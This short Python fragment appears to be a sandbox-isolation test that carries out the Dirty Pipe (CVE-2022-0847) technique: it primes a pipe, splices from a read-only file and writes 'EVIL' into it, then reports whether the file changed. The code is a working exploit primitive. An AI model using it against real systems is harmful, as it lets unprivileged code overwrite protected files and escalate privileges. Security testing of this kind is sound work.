# CVE-2022-0847 ("Dirty Pipe"): writes into the page cache of a file that it may only read.
def splice():
    data = os.open('/job/data/' + os.listdir('/job/data')[0], os.O_RDONLY)
    before = os.pread(data, 1000, 0)
    out, pipe = os.pipe()
    for _ in range(16):
        os.write(pipe, b'x' * 4096)
    for _ in range(16):
        os.read(out, 4096)
    with contextlib.suppress(OSError):
        os.splice(data, pipe, 1, offset_src=0)
        os.write(pipe, b'EVIL')
    return 'refused' if os.pread(data, 1000, 0) == before else 'changed'
result = while_executing(splice)
